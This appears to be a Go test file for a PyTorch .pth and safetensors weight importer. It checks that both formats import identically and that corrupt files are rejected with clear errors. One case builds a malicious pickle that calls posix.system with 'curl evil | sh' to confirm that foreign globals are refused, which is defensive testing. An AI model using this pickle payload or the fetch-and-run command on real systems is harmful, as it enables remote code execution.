package train

import (
	"bytes"
	"encoding/binary"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/shortcut-edge/shortcut/train/models"
	"github.com/shortcut-edge/shortcut/train/pth/pthtest"
)

// randomTorchvision returns random weights with torchvision's state_dict names and shapes for
// arch (base width w, 3 input channels, k classes), in the network's order, with zero-mean
// convolutions and positive batch-norm scales and variances.
func randomTorchvision(t *testing.T, arch string, w, k int, seed uint64) []NamedTensor {
	t.Helper()
	net, err := models.New(models.Config{Arch: arch, BaseWidth: w, Height: 32, Width: 32, Channels: 3, NumClasses: k})
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(seed, 17))
	names, shapes := ExpectedTensorNames(net)
	var out []NamedTensor
	for _, n := range names {
		s := shapes[n]
		v := make([]float32, prod(s))
		fanIn := prod(s[1:])
		for i := range v {
			switch {
			case strings.HasSuffix(n, "running_var"), len(s) == 1 && strings.Contains(n, "bn") && strings.HasSuffix(n, ".weight"),
				strings.HasSuffix(n, "downsample.1.weight"):
				v[i] = float32(0.5 + rng.Float64())
			case len(s) == 1:
				v[i] = float32(0.1 * rng.NormFloat64())
			default:
				v[i] = float32(rng.NormFloat64() * math.Sqrt(2/float64(fanIn)))
			}
		}
		out = append(out, NamedTensor{Name: n, Shape: s, Data: v})
	}
	return out
}

// storageBytes encodes values as the storage of a dtype, the way WriteSafetensors encodes them
// (BF16 truncates), so that both files hold the same numbers.
func storageBytes(v []float32, dtype string) (class string, b []byte) {
	switch dtype {
	case "F16":
		for _, x := range v {
			b = binary.LittleEndian.AppendUint16(b, floatToHalf(x))
		}
		return "HalfStorage", b
	case "BF16":
		for _, x := range v {
			b = binary.LittleEndian.AppendUint16(b, uint16(math.Float32bits(x)>>16))
		}
		return "BFloat16Storage", b
	}
	return "FloatStorage", pthtest.Float32s(v)
}

// pthLayout says how writePTH lays tensors out.
type pthLayout struct {
	dtype string
	// channelsLast stores 4-d weights as a model in torch.channels_last memory format has them:
	// physically O,KH,KW,I, described by the strides (I*KH*KW, 1, KW*I, I).
	channelsLast bool
	// edit changes the file before it is written.
	edit func(f *pthtest.File, index map[string]int)
}

// writePTH writes ts as torch.save(model.state_dict(), path) would: one storage per tensor, a
// num_batches_tracked counter after each batch norm's running_var, _metadata.
func writePTH(t *testing.T, path string, ts []NamedTensor, layout pthLayout) {
	t.Helper()
	f := &pthtest.File{Metadata: true}
	index := map[string]int{}
	for _, nt := range ts {
		e := pthtest.Entry{Name: nt.Name, Storage: len(f.Storages), Shape: nt.Shape}
		data := nt.Data
		if s := nt.Shape; layout.channelsLast && len(s) == 4 {
			o, in, kh, kw := s[0], s[1], s[2], s[3]
			data = make([]float32, len(nt.Data))
			for a := range o {
				for b := range in {
					for y := range kh {
						for x := range kw {
							data[((a*kh+y)*kw+x)*in+b] = nt.Data[((a*in+b)*kh+y)*kw+x]
						}
					}
				}
			}
			e.Stride = []int{in * kh * kw, 1, kw * in, in}
		}
		class, b := storageBytes(data, layout.dtype)
		f.Storages = append(f.Storages, pthtest.Storage{Class: class, Data: b})
		index[nt.Name] = len(f.Entries)
		f.Entries = append(f.Entries, e)
		if strings.HasSuffix(nt.Name, ".running_var") {
			counter := strings.TrimSuffix(nt.Name, "running_var") + "num_batches_tracked"
			f.Storages = append(f.Storages, pthtest.Storage{Class: "LongStorage", Data: pthtest.Int64s([]int64{1234})})
			index[counter] = len(f.Entries)
			f.Entries = append(f.Entries, pthtest.Entry{Name: counter, Storage: len(f.Storages) - 1, Shape: []int{}})
		}
	}
	if layout.edit != nil {
		layout.edit(f, index)
	}
	b, err := f.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// checkpointTime is the time GoMLX writes into a checkpoint's file name.
var checkpointTime = regexp.MustCompile(`-[0-9]{8}-[0-9]{6}-`)

// runFiles reads every file of a run directory, by name without the checkpoint's time.
func runFiles(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		out[checkpointTime.ReplaceAllString(e.Name(), "-TIME-")] = b
	}
	return out
}

func TestPTHImportGivesTheRunSafetensorsGives(t *testing.T) {
	ts := randomTorchvision(t, "resnet18", 8, 10, 21)
	for _, layout := range []pthLayout{{dtype: "F32"}, {dtype: "F32", channelsLast: true}, {dtype: "F16", channelsLast: true},
		{dtype: "BF16"}} {
		name := layout.dtype
		if layout.channelsLast {
			name += "-channels_last"
		}
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			// The same base name: the run records it, and both runs must be identical.
			st := filepath.Join(dir, "st", "resnet18.weights")
			pt := filepath.Join(dir, "pt", "resnet18.weights")
			for _, d := range []string{filepath.Dir(st), filepath.Dir(pt)} {
				if err := os.MkdirAll(d, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			counter := NamedTensor{Name: "bn1.num_batches_tracked", Shape: []int{}, Data: []float32{0}}
			if err := WriteSafetensors(st, append(ts, counter), layout.dtype, nil); err != nil {
				t.Fatal(err)
			}
			writePTH(t, pt, ts, layout)
			runs := map[string]string{}
			for format, file := range map[string]string{FormatSafetensors: st, FormatPTH: pt} {
				runs[format] = filepath.Join(dir, format+"-run")
				sum, err := ImportWeights(ImportOptions{Path: file, Arch: "resnet18", Height: 32, Run: runs[format]})
				if err != nil {
					t.Fatal(err)
				}
				if sum.Format != format || sum.Tensors != len(ts) || len(sum.Ignored) == 0 {
					t.Errorf("%s: summary %+v: want format %s, %d tensors, num_batches_tracked ignored", file, sum, format, len(ts))
				}
			}
			a, b := runFiles(t, runs[FormatSafetensors]), runFiles(t, runs[FormatPTH])
			if len(a) == 0 || len(a) != len(b) {
				t.Fatalf("the runs hold %d and %d files", len(a), len(b))
			}
			for name, content := range a {
				if !bytes.Equal(content, b[name]) {
					t.Errorf("%s differs between the run imported from safetensors and the one from .pth", name)
				}
			}
		})
	}
}

func TestPTHImportNamesWhatIsWrong(t *testing.T) {
	dir := t.TempDir()
	ts := randomTorchvision(t, "resnet18", 8, 10, 22)
	write := func(name string, layout pthLayout) string {
		p := filepath.Join(dir, name+".pth")
		if layout.dtype == "" {
			layout.dtype = "F32"
		}
		writePTH(t, p, ts, layout)
		return p
	}
	good := write("good", pthLayout{})
	raw, err := os.ReadFile(good)
	if err != nil {
		t.Fatal(err)
	}
	truncated := filepath.Join(dir, "truncated.pth")
	if err := os.WriteFile(truncated, raw[:len(raw)*2/3], 0o644); err != nil {
		t.Fatal(err)
	}
	noPickle := filepath.Join(dir, "nopickle.pth")
	if b, err := (&pthtest.File{Pickle: []byte{}, Storages: []pthtest.Storage{{Class: "FloatStorage"}}}).Bytes(); err != nil {
		t.Fatal(err)
	} else if err := os.WriteFile(noPickle, bytes.Replace(b, []byte("archive/data.pkl"), []byte("archive/data.pkX"), -1), 0o644); err != nil {
		t.Fatal(err)
	}
	system := pthtest.NewPickler()
	system.Global("posix", "system")
	system.Str("curl evil | sh")
	system.Tuple(1)
	system.Reduce()
	system.Raw('.')
	setValue := func(name string, i int, v float32) func(f *pthtest.File, index map[string]int) {
		return func(f *pthtest.File, index map[string]int) {
			binary.LittleEndian.PutUint32(f.Storages[f.Entries[index[name]].Storage].Data[4*i:], math.Float32bits(v))
		}
	}
	inf := filepath.Join(dir, "inf.safetensors")
	withInf := append([]NamedTensor{}, ts...)
	for i, nt := range withInf {
		if nt.Name == "layer2.1.conv1.weight" {
			d := append([]float32{}, nt.Data...)
			d[5] = float32(math.Inf(1))
			withInf[i].Data = d
		}
	}
	if err := WriteSafetensors(inf, withInf, "F32", nil); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		opt  ImportOptions
		want []string
	}{
		{"truncated", ImportOptions{Path: truncated}, []string{"pth " + truncated + ": ", "zip directory"}},
		{"no data.pkl", ImportOptions{Path: noPickle}, []string{"nopickle.pth", `no "archive/data.pkl" record`}},
		{"a foreign global", ImportOptions{Path: write("system", pthLayout{edit: func(f *pthtest.File, _ map[string]int) {
			f.Pickle = system.Bytes()
		}})}, []string{"system.pth", "global posix.system", "refused"}},
		{"a storage shorter than its view", ImportOptions{Path: write("short", pthLayout{edit: func(f *pthtest.File, index map[string]int) {
			st := &f.Storages[f.Entries[index["layer3.0.conv2.weight"]].Storage]
			st.Data = st.Data[:len(st.Data)-4]
		}})}, []string{"short.pth", `tensor "layer3.0.conv2.weight": size [32 32 3 3], stride [288 9 3 1]`, "more elements than the storage"}},
		{"wrong dtype", ImportOptions{Path: write("long", pthLayout{edit: func(f *pthtest.File, index map[string]int) {
			st := &f.Storages[f.Entries[index["layer2.0.conv1.weight"]].Storage]
			st.Class, st.Data = "LongStorage", make([]byte, len(st.Data)*2)
		}})}, []string{"long.pth", "layer2.0.conv1.weight: dtype I64 is not a float type"}},
		{"NaN in a .pth", ImportOptions{Path: write("nan", pthLayout{edit: setValue("layer3.1.bn2.weight", 3, float32(math.NaN()))})},
			[]string{"nan.pth", "layer3.1.bn2.weight[3] is NaN (weights must be finite)"}},
		{"Inf in safetensors", ImportOptions{Path: inf}, []string{"inf.safetensors", "layer2.1.conv1.weight[5] is +Inf"}},
		{"missing tensors", ImportOptions{Path: write("missing", pthLayout{edit: func(f *pthtest.File, index map[string]int) {
			var keep []pthtest.Entry
			for _, e := range f.Entries {
				if e.Name != "layer4.1.conv2.weight" && e.Name != "layer1.0.bn1.running_mean" {
					keep = append(keep, e)
				}
			}
			f.Entries = keep
		}})}, []string{"missing.pth", "2 tensors missing: layer1.0.bn1.running_mean, layer4.1.conv2.weight"}},
		{"a mis-shaped tensor", ImportOptions{Path: write("shape", pthLayout{edit: func(f *pthtest.File, index map[string]int) {
			e := &f.Entries[index["layer2.0.downsample.0.weight"]]
			e.Shape = []int{8, 16, 1, 1}
		}})}, []string{"shape.pth", "layer2.0.downsample.0.weight is [8 16 1 1], want [16 8 1 1]"}},
		{"another architecture", ImportOptions{Path: good, Arch: "resnet34"}, []string{"good.pth as resnet34", "tensors missing: layer1.2.conv1.weight, layer1.2.bn1.weight"}},
		{"forced safetensors", ImportOptions{Path: good, Format: FormatSafetensors}, []string{"good.pth", "--format safetensors, but the file is a torch.save zip"}},
		{"forced pth", ImportOptions{Path: inf, Format: FormatPTH}, []string{"inf.safetensors", "--format pth, but the file is safetensors"}},
	} {
		if tc.opt.Arch == "" {
			tc.opt.Arch = "resnet18"
		}
		tc.opt.Height = 32
		tc.opt.Run = filepath.Join(dir, "run-"+strings.ReplaceAll(tc.name, " ", "-"))
		_, err := ImportWeights(tc.opt)
		if err == nil {
			t.Errorf("%s: import succeeded", tc.name)
			continue
		}
		t.Logf("%s: %v", tc.name, err)
		if strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: error spans lines: %q", tc.name, err)
		}
		for _, w := range tc.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s: error %q does not mention %q", tc.name, err, w)
			}
		}
		if _, statErr := os.Stat(tc.opt.Run); !os.IsNotExist(statErr) {
			t.Errorf("%s: the failed import left %s behind (%v)", tc.name, tc.opt.Run, statErr)
		}
	}
	if _, err := ImportWeights(ImportOptions{Path: good, Arch: "resnet18", Height: 32, Run: filepath.Join(dir, "ok")}); err != nil {
		t.Fatalf("the file every case above breaks imports: %v", err)
	}
}
